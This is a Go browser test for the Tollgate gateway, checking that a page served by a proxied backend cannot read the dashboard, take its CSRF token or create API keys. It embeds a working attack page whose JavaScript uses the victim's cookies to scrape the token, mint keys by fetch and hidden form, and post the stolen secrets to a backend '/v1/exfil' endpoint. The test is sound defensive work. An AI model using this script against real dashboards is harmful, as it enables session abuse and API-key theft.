package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/tollgate/tollgate/internal/apikey"
)

// attackPage is the HTML a malicious (or compromised) backend serves on a
// proxied route. A logged-in dashboard user who opens it has it try, with
// the user's cookies, on the dashboard's public URL (dash) and on the
// dashboard's path of its own origin: to read the keys page and its CSRF
// token with fetch; to create a key with fetch (reading its secret from
// the answer) and with a plain form posted into a hidden frame; then it
// reports what it got to the backend (/v1/exfil) and in window.__result.
const attackPage = `<!doctype html>
<html><head><meta charset="utf-8"><title>Cat pictures</title></head>
<body>
<iframe name="sink" id="sink"></iframe>
<script>
(async () => {
  const targets = [%q, location.origin + "/dashboard/"];
  const r = {reads: [], csrf: null, created: [], errors: []};
  for (const base of targets) {
    try {
      const res = await fetch(base + "keys", {credentials: "include"});
      const text = await res.text();
      const m = text.match(/name="csrf" value="([^"]+)"/);
      r.reads.push({base: base, status: res.status, url: res.url, bytes: text.length, csrf: !!m});
      if (m) r.csrf = m[1];
    } catch (e) {
      r.errors.push("GET " + base + "keys: " + e);
    }
  }
  const token = r.csrf || "guessed";
  for (const base of targets) {
    try {
      const body = new URLSearchParams({csrf: token, name: "stolen by fetch"});
      const res = await fetch(base + "keys", {method: "POST", credentials: "include", body: body});
      const text = await res.text();
      const m = text.match(/id="new-key"[^>]*>\s*([^<\s]+)/);
      r.created.push({base: base, status: res.status, secret: m ? m[1] : null});
    } catch (e) {
      r.errors.push("fetch POST " + base + "keys: " + e);
    }
  }
  for (const base of targets) {
    await new Promise(resolve => {
      const f = document.createElement("form");
      f.method = "POST";
      f.action = base + "keys";
      f.target = "sink";
      for (const [k, v] of [["csrf", token], ["name", "stolen by a form"]]) {
        const i = document.createElement("input");
        i.type = "hidden"; i.name = k; i.value = v;
        f.appendChild(i);
      }
      document.body.appendChild(f);
      document.getElementById("sink").onload = () => resolve();
      f.submit();
    });
  }
  await fetch("/v1/exfil", {method: "POST", body: JSON.stringify(r)});
  window.__result = JSON.stringify(r);
})();
</script>
</body></html>`

// attackResult is what the attack page reports.
type attackResult struct {
	Reads []struct {
		Base   string `json:"base"`
		Status int    `json:"status"`
		URL    string `json:"url"`
		Bytes  int    `json:"bytes"`
		CSRF   bool   `json:"csrf"`
	} `json:"reads"`
	CSRF    *string `json:"csrf"`
	Created []struct {
		Base   string  `json:"base"`
		Status int     `json:"status"`
		Secret *string `json:"secret"`
	} `json:"created"`
	Errors []string `json:"errors"`
}

// stolen returns the API key secrets the attack read.
func (r attackResult) stolen() []string {
	var keys []string
	for _, c := range r.Created {
		if c.Secret != nil && apikey.Valid(*c.Secret) {
			keys = append(keys, *c.Secret)
		}
	}
	return keys
}

// TestDashboardOriginIsolation is the attack of a proxied backend page on
// the dashboard, in headless Chromium: a user logs in to the dashboard,
// then opens an HTML page that a backend serves on a public route of the
// gateway. With the dashboard on an origin of its own — its own listener
// (another port: same site, another origin), or its own host name on the
// public listener (dash.tollgate.test beside api.tollgate.test: same site
// too, so the SameSite=Strict cookies go along) — the page reads nothing
// and creates no key. As a control, with dashboard.allow_api_origin the
// same page reads the CSRF token, creates a key and sends its secret to
// the backend: the test does detect the attack.
func TestDashboardOriginIsolation(t *testing.T) {
	if testing.Short() {
		t.Skip("starts server processes and browsers")
	}
	if _, err := os.Stat(chromiumPath); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatalf("chromium is not installed (%v): CI must install Debian's chromium (.ci/run does)", err)
		}
		t.Skipf("chromium is not installed at %s: apt-get install chromium to run the dashboard's browser tests", chromiumPath)
	}
	for _, mode := range []string{"listener", "host", "allow_api_origin"} {
		t.Run(mode, func(t *testing.T) { testOriginAttack(t, mode) })
	}
}

func testOriginAttack(t *testing.T, mode string) {
	const (
		adminToken = "dashboard-origin-admin-token-0123456789abcdef"
		email      = "victim@example.com"
		password   = "correct horse battery staple"
	)
	dir := t.TempDir()
	addr, adminAddr, dashAddr := freePort(t), freePort(t), freePort(t)
	_, port, _ := strings.Cut(addr, ":")
	apiOrigin := "http://" + addr
	var dashBase, section string
	var flags []chromedp.ExecAllocatorOption
	switch mode {
	case "listener":
		dashBase, section = "http://"+dashAddr, "dashboard:\n  listen: "+dashAddr+"\n"
	case "host":
		// Both names resolve to the node, in the browser as in DNS.
		apiOrigin, dashBase = "http://api.tollgate.test:"+port, "http://dash.tollgate.test:"+port
		section = "dashboard:\n  host: dash.tollgate.test\n"
		flags = append(flags, chromedp.Flag("host-resolver-rules", "MAP *.tollgate.test 127.0.0.1"))
	case "allow_api_origin":
		dashBase, section = apiOrigin, "dashboard:\n  allow_api_origin: true\n"
	}

	// The backend: the attack page, and a sink for what it steals.
	var mu sync.Mutex
	var exfil, cookies []string
	backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		cookies = append(cookies, r.Header.Values("Cookie")...)
		mu.Unlock()
		switch r.URL.Path {
		case "/v1/attack":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprintf(w, attackPage, dashBase+"/dashboard/")
		case "/v1/exfil":
			b, _ := io.ReadAll(r.Body)
			mu.Lock()
			exfil = append(exfil, string(b))
			mu.Unlock()
		default:
			http.NotFound(w, r)
		}
	}))
	defer backend.Close()

	cfg := filepath.Join(dir, "tollgate.yaml")
	yaml := fmt.Sprintf(`server:
  listen: %s
  insecure_http: true
  public_url: %s
admin:
  listen: %s
  token: %s
storage:
  type: sqlite
  sqlite: {path: %s}
secrets:
  master_key: dGVzdC1tYXN0ZXIta2V5LTAxMjM0NTY3ODlhYmNkZWY=
routes:
  - path: /v1/
    upstream: %s
    public: true
log:
  access_log: true
%s`, addr, apiOrigin, adminAddr, adminToken, filepath.Join(dir, "tollgate.db"), backend.URL, section)
	if err := os.WriteFile(cfg, []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	_, serverLog := serveProcessLog(t, cfg, "http://"+addr)
	t.Cleanup(func() {
		if t.Failed() {
			if out, err := os.ReadFile(serverLog); err == nil {
				t.Logf("server log:\n%s", tail(string(out), 4000))
			}
		}
	})
	client := &http.Client{Timeout: 5 * time.Second}
	api := "http://" + addr
	postJSON(t, client, api+"/api/v1/auth/email/register", "",
		map[string]string{"email": email, "password": password, "organization_name": "Victim Co"}, http.StatusAccepted)
	activate(t, client, "http://"+adminAddr, adminToken, email)

	// The victim logs in to the dashboard.
	b := startBrowser(t, dashBase, t.TempDir(), flags...)
	b.open("/dashboard/login")
	b.waitVisible("the login form", `#email`, `#password`, `form:has(#password) [type="submit"]`)
	b.do("fill in the login form",
		chromedp.SendKeys(chromedp.CSS(`#email`), email),
		chromedp.SendKeys(chromedp.CSS(`#password`), password),
	)
	if status := b.clickToPage("log in", `form:has(#password) [type="submit"]`); status != http.StatusOK || b.path() != "/dashboard/overview" {
		b.fatalf("logging in ended on %s with status %d", b.path(), status)
	}

	// …and then opens the backend's page.
	resp := value(b, "open the attack page", chromedp.NavigateResponse(apiOrigin+"/v1/attack"))
	if resp == nil || resp.Status != http.StatusOK {
		b.fatalf("the attack page did not load: %+v", resp)
	}
	raw := value(b, "the attack's end", chromedp.Poll[string](`window.__result || null`, chromedp.WithPollingInterval(100*time.Millisecond)))
	var got attackResult
	if err := json.Unmarshal([]byte(raw), &got); err != nil {
		t.Fatalf("the attack's result %q: %v", raw, err)
	}
	t.Logf("%s: the attack page got %s", mode, raw)
	mu.Lock()
	sent, received := strings.Join(exfil, "\n"), strings.Join(cookies, "; ")
	mu.Unlock()
	keys := keyCount(t, client, api, email, password)
	// Browsers send a host's cookies to all its ports: the gateway keeps
	// the dashboard's from the backend, in every mode.
	if strings.Contains(received, "tg_") {
		t.Errorf("the backend received the dashboard's cookies: %q", received)
	}

	if mode == "allow_api_origin" {
		// The control: on the API's origin, the page is the user.
		stolen := got.stolen()
		if got.CSRF == nil || len(stolen) == 0 || keys == 0 || !strings.Contains(sent, stolen[0]) {
			t.Fatalf("the attack failed on the shared origin, so this test would not detect it: "+
				"token read %v, secrets %q, %d keys, backend got %q", got.CSRF != nil, stolen, keys, sent)
		}
		return
	}
	if got.CSRF != nil {
		t.Errorf("the page read the CSRF token: %+v", got.Reads)
	}
	for _, rd := range got.Reads {
		if rd.CSRF || (rd.Status == http.StatusOK && rd.Bytes > 0) {
			t.Errorf("the page read a dashboard page: %+v", rd)
		}
	}
	if s := got.stolen(); len(s) > 0 || strings.Contains(sent, "tgk_") {
		t.Errorf("the page stole keys: %q (backend got %q)", s, sent)
	}
	if keys != 0 {
		t.Errorf("the page created %d keys", keys)
	}
	if sent == "" {
		t.Error("the attack page never reported: it did not run to its end")
	}
	// The forms did reach the dashboard with the session's cookies (a
	// request without them is sent to the login page, 303) and were
	// refused there (403): the defence is the dashboard's, not luck.
	posts := dashboardPosts(t, serverLog)
	t.Logf("%s: the POSTs of the attack were answered %v", mode, posts)
	refused := 0
	for _, st := range posts {
		switch st {
		case http.StatusForbidden:
			refused++
		case http.StatusNotFound: // the API's origin has no dashboard
		default:
			t.Errorf("a POST /dashboard/keys answered %d: %v", st, posts)
		}
	}
	if refused == 0 {
		t.Errorf("no POST of the page reached the dashboard and was refused: %v", posts)
	}
}

// dashboardPosts waits for the access log of the attack's forms (the
// attack sends four) and returns their statuses.
func dashboardPosts(t *testing.T, serverLog string) []int {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		raw, err := os.ReadFile(serverLog)
		if err != nil {
			t.Fatal(err)
		}
		var statuses []int
		for line := range strings.SplitSeq(string(raw), "\n") {
			var e struct {
				Method, Path string
				Status       int
			}
			if json.Unmarshal([]byte(line), &e) == nil && e.Method == http.MethodPost && e.Path == "/dashboard/keys" {
				statuses = append(statuses, e.Status)
			}
		}
		if len(statuses) >= 4 || time.Now().After(deadline) {
			return statuses
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// postJSON posts a JSON body, with a bearer token when one is given, and
// checks the status.
func postJSON(t *testing.T, client *http.Client, url, token string, body any, want int) []byte {
	t.Helper()
	raw, _ := json.Marshal(body)
	req, _ := http.NewRequest(http.MethodPost, url, bytes.NewReader(raw))
	req.Header.Set("Content-Type", "application/json")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != want {
		t.Fatalf("POST %s: %d %s, want %d", url, resp.StatusCode, b, want)
	}
	return b
}

// keyCount logs in through the API and counts the organization's keys.
func keyCount(t *testing.T, client *http.Client, api, email, password string) int {
	t.Helper()
	var login struct {
		AccessToken string `json:"access_token"`
	}
	if err := json.Unmarshal(postJSON(t, client, api+"/api/v1/auth/email/login", "",
		map[string]string{"email": email, "password": password}, http.StatusOK), &login); err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest(http.MethodGet, api+"/api/v1/apikeys", nil)
	req.Header.Set("Authorization", "Bearer "+login.AccessToken)
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var list struct {
		Data []json.RawMessage `json:"data"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&list); err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("list keys: %d %v", resp.StatusCode, err)
	}
	return len(list.Data)
}
